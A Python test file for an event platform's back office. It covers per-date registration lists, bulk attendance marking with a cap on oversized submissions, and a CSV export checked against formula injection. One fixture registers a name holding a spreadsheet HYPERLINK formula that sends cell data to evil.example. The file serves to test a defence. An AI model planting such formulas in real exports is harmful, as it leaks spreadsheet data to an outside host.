"""An event's registrations in the back office over HTTP: who holds a place and who waits, per date,
attendance marked for a whole list at once, and a CSV file that no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import io
import re

from event_helpers import CITY, create_event, next_weekday, organisation, register
from office_helpers import form_token, sign_in, text_of


async def test_registrations_per_date_attendance_and_a_safe_csv(
    web, identity_provider, platform, auth_header
) -> None:
    org = organisation()
    day = next_weekday(2)
    schedule = {"start": f"{day}T10:00:00", "end": f"{day}T12:00:00", "rrule": "FREQ=WEEKLY;COUNT=3"}
    event = create_event(
        platform["events"], auth_header("ngo_editor", city="lublin", org=org), schedule=schedule, capacity=2,
        registration={"required": True},
    )  # fmt: skip
    first, second = (o["occurrence"] for o in event["occurrences"][:2])
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    register(platform["events"], event["id"], first, name="Olena Kovalenko", email="olena@example.org")
    register(platform["events"], event["id"], first, name=hostile, phone="+48 600 100 200")
    register(platform["events"], event["id"], first, name="@Omar")
    register(platform["events"], event["id"], second, name="Iryna")
    await sign_in(web, identity_provider, "ngo_editor", org=org)

    page = await web.get(f"{CITY}/events/{event['id']}/registrations")
    assert page.status_code == 200 and page.headers["cache-control"] == "no-store"
    shown = text_of(page)
    assert (
        "Olena Kovalenko" in shown and "olena@example.org" in shown and "Iryna" not in shown
    )  # the nearest date
    counts = re.sub(r"\s+", " ", shown.split("Has a place", 1)[1][:60])
    assert counts.startswith(" 2 Waiting list 1 Cancelled 0")
    second_date = await web.get(f"{CITY}/events/{event['id']}/registrations", params={"date": second})
    assert "Iryna" in text_of(second_date) and "Olena" not in text_of(second_date)

    ids = re.findall(r'name="attended\.([0-9a-f]+)" value="yes"', page.text)
    assert len(ids) == 2  # the two with a place; the waiting list has no attendance
    marks = {
        f"attended.{ids[0]}": "yes",
        f"was.{ids[0]}": "",
        f"attended.{ids[1]}": "no",
        f"was.{ids[1]}": "",
    }
    saved = await web.post(
        f"{CITY}/events/{event['id']}/registrations/attendance",
        data={"csrf_token": form_token(page), "date": first, **marks},
    )
    assert saved.status_code == 303 and saved.headers["location"].endswith("done=2")
    again = await web.get(saved.headers["location"])
    assert "Attendance saved for 2 people." in text_of(again)
    assert f'id="attended-{ids[0]}-yes" name="attended.{ids[0]}" value="yes" checked' in again.text
    assert f'id="attended-{ids[1]}-no" name="attended.{ids[1]}" value="no" checked' in again.text

    flood = {f"attended.{n:032x}": "yes" for n in range(101)}  # more than any list the page shows
    refused = await web.post(
        f"{CITY}/events/{event['id']}/registrations/attendance",
        data={"csrf_token": form_token(page), "date": first, **flood, f"attended.{ids[1]}": "yes"},
    )
    assert refused.status_code == 400 and "The change was not accepted" in text_of(refused)
    assert (
        f'id="attended-{ids[1]}-no" name="attended.{ids[1]}" value="no" checked' in refused.text
    )  # unchanged

    exported = await web.get(f"{CITY}/events/{event['id']}/registrations.csv", params={"date": first})
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    assert (
        "attachment" in exported.headers["content-disposition"]
        and exported.headers["cache-control"] == "no-store"
    )
    assert exported.content.startswith(b"\xef\xbb\xbf")  # spreadsheets read the names' letters right
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0] == ["Date", "Name", "E-mail", "Phone", "Status", "Registered", "Attended"]
    by_name = {row[1]: row for row in rows[1:]}
    assert set(by_name) == {"Olena Kovalenko", "'" + hostile, "'@Omar"}  # never a formula
    assert by_name["'" + hostile][3] == "'+48 600 100 200" and by_name["'@Omar"][4] == "Waiting list"
    assert {by_name["Olena Kovalenko"][6], by_name["'" + hostile][6]} == {"yes", "no"}
    every = await web.get(f"{CITY}/events/{event['id']}/registrations.csv", params={"date": "all"})
    assert len(list(csv.reader(io.StringIO(every.content.decode("utf-8-sig"))))) == 5


async def test_a_whole_course_has_one_list(web, identity_provider, platform, auth_header) -> None:
    org = organisation()
    day = next_weekday(3)
    event = create_event(
        platform["events"], auth_header("ngo_editor", city="lublin", org=org),
        schedule={"start": f"{day}T17:00:00", "end": f"{day}T18:00:00", "rrule": "FREQ=WEEKLY;COUNT=8"},
        registration={"required": True, "per": "series"},
    )  # fmt: skip
    register(platform["events"], event["id"], None, name="Ahmad")
    await sign_in(web, identity_provider, "ngo_editor", org=org)
    page = text_of(await web.get(f"{CITY}/events/{event['id']}/registrations"))
    assert "People register for the whole course." in page and "Ahmad" in page
    exported = await web.get(f"{CITY}/events/{event['id']}/registrations.csv")
    assert "Whole course" in exported.content.decode("utf-8-sig")
